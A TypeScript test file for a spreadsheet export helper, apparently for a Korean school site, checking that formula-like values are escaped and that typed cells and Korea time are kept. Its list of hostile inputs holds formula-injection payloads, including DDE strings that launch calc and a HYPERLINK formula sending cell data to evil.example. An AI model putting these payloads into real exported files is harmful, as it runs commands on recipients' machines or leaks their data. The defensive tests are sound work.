import { buffer } from 'node:stream/consumers';

import excel from '@protobi/exceljs';
import { expect, it } from 'vitest';

import { safeText, writeWorkbook } from './workbook.ts';

/** Attacks on spreadsheets (OWASP, CSV injection), and characters that Korean keyboards add. */
const HOSTILE = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"눌러요")',
  '+82-10-0000-0000',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00A0=1+1',
  '\u200B=1+1',
  '\uFEFF=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
];

it.each(HOSTILE)('Xl1 %j stays a text, in this file and in a CSV made of it', (text) => {
  expect(safeText(text)).toMatch(/^'/);
});

it.each(['2학기 장학금 신청', '00120260', "it's", '1-2=3', '', 'a\u0000b\tc'])('Xl1 %j is left as it reads', (text) => {
  expect(safeText(text)).toBe(text.replaceAll(/[\u0000\t]/g, ' ')); // oxlint-disable-line no-control-regex -- these are meant
});

it('Xl1 has typed cells: texts with their zeros, numbers, moments as the clock in Korea shows them', async () => {
  const at = new Date('2026-12-03T15:30:00.000Z');
  const file = await writeWorkbook({
    name: '공지: 목록/전체',
    columns: [
      { header: '학번', width: 12, value: ([id]: readonly [string, number, Date | null]) => id },
      { header: '조회', width: 8, value: ([, views]) => views },
      { header: '마감', width: 18, value: ([, , due]) => due },
    ],
    rows: [
      ['00120260', 12, at],
      ['=1+1', 0, null],
    ],
  });
  const book = new excel.Workbook();
  await book.xlsx.load((await buffer(file)) as never); // its types know an older Buffer
  const sheet = book.worksheets[0];
  expect(sheet?.name).toBe('공지  목록 전체');
  const rows = [1, 2, 3].map((row) => [1, 2, 3].map((column) => sheet?.getCell(row, column).value));
  expect(rows).toEqual([
    ['학번', '조회', '마감'],
    ['00120260', 12, new Date('2026-12-04T00:30:00.000Z')],
    ["'=1+1", 0, null],
  ]);
});
